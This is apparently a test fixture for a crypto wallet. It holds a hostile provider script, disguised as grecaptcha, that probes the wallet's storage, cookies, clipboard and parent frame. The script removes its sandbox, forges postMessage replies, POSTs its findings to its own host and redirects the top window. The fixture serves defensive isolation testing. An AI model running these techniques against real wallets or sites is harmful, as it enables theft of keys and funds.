/**
 * A provider's script that tries to get at the wallet around its frame. It reports each thing that it could do and must
 * not to `told` beside its own address, then tries to lead the wallet elsewhere, and says no. It is a text, because a
 * browser runs it as it is.
 */
export const HOSTILE_SCRIPT = `(() => {
  const here = document.currentScript.src;
  const wallet = location.href;
  const told = [];
  const within = (work) => Promise.race([work, new Promise((late) => setTimeout(late, 1500))]);
  const opened = (name) =>
    new Promise((done) => {
      const asked = indexedDB.open(name);
      asked.onsuccess = () => done(true);
      asked.onerror = asked.onblocked = () => done(false);
    });
  const child = (fill) => {
    const frame = document.createElement("iframe");
    fill(frame);
    document.body.append(frame);
    return frame;
  };
  const loaded = (frame) => new Promise((done) => (frame.onload = done));
  const tries = {
    "reads localStorage": () => localStorage.length >= 0,
    "reads sessionStorage": () => sessionStorage.length >= 0,
    "lists the databases": async () => Array.isArray(await indexedDB.databases()),
    "opens the wallets": () => opened("satchel"),
    "opens the keys": () => opened("satchel-vault"),
    "reads cookies": () => {
      document.cookie = "stolen=1";
      return typeof document.cookie === "string";
    },
    "lists the caches": async () => Array.isArray(await caches.keys()),
    "reads the files of the origin": async () => Boolean(await navigator.storage.getDirectory()),
    "reaches the service worker": async () => Array.isArray(await navigator.serviceWorker.getRegistrations()),
    "sees the wallet's locks": async () => Boolean(await navigator.locks.query()),
    "reads the clipboard": async () => typeof (await navigator.clipboard.readText()) === "string",
    "starts a worker of the origin": () =>
      new Promise((done) => {
        const worker = new Worker(new URL("service-worker.js", wallet));
        worker.onmessage = () => done(true);
        worker.onerror = () => done(false);
        setTimeout(() => done(true), 500);
      }),
    "reads the wallet's document": () => Boolean(parent.document),
    "reads the wallet's storage through the window": () => Boolean(parent.localStorage),
    "reads the wallet's address": () => typeof top.location.href === "string",
    "calls the wallet's functions": () => Boolean(parent.indexedDB),
    "reaches its own frame": () => frameElement !== null,
    "reads the wallet's files": async () => (await (await fetch(new URL("config.json", wallet))).text()) !== "",
    "asks as the wallet": async () =>
      (await (await fetch(new URL("index.html", wallet), { credentials: "include" })).text()) !== "",
    "opens a window": () => window.open("about:blank") !== null,
    "opens the wallet in a window": () => window.open(new URL("index.html", wallet), "_blank") !== null,
    "asks with a dialog": () => confirm("Send everything?"),
    "shows the wallet in a frame of its own": async () => {
      const frame = child((it) => (it.src = new URL("index.html", wallet)));
      await within(loaded(frame));
      return frame.contentDocument !== null && frame.contentDocument.URL !== "about:blank";
    },
    "reads the storage from a frame without a policy": async () => {
      const frame = child((it) => (it.srcdoc = "<p>empty</p>"));
      await within(loaded(frame));
      return frame.contentWindow.localStorage.length >= 0;
    },
    "takes off its sandbox": () => {
      window.frameElement.removeAttribute("sandbox");
      return true;
    },
  };
  const quietly = {
    forge: () => {
      const forged = { id: "00000000-0000-4000-8000-000000000000", step: "proof", proof: "forged" };
      for (const message of [forged, { ...forged, id: "" }, { ...forged, id: undefined }, [forged], "forged", null])
        parent.postMessage(message, "*");
      const script = "<script src='" + here.replace("api.js", "forge.js") + "'></" + "script>";
      child((it) => (it.srcdoc = script));
    },
    broadcast: () => new BroadcastChannel("satchel-vault").postMessage({ kind: "hello" }),
    download: () => {
      const link = document.createElement("a");
      Object.assign(link, { href: "data:text/plain,stolen", download: "stolen.txt" });
      document.body.append(link);
      link.click();
    },
  };
  const atLast = {
    submit: () => {
      const form = document.createElement("form");
      Object.assign(form, { action: here, target: "_top", method: "post" });
      document.body.append(form);
      form.submit();
    },
    leave: () => {
      top.location.href = here;
    },
  };
  const begin = (attempts) => {
    for (const attempt of Object.values(attempts)) {
      try {
        attempt();
      } catch {}
    }
  };
  const run = async () => {
    for (const [sentence, attempt] of Object.entries(tries)) {
      const could = await within((async () => attempt())()).catch(() => false);
      if (could === true) told.push(sentence);
    }
    begin(quietly);
    await fetch(here.replace(/api\\.js.*/, "told"), {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ told }),
    });
    begin(atLast);
    throw new Error("That was all");
  };
  window.grecaptcha = { ready: (begin) => begin(), execute: run };
})();
`;

/** Runs in a frame of the hostile script's frame, and answers the wallet from there. */
export const FORGING_SCRIPT = `for (const step of ["asked", "proof", "refused"])
  top.postMessage({ id: "00000000-0000-4000-8000-000000000000", step, proof: "forged" }, "*");
`;
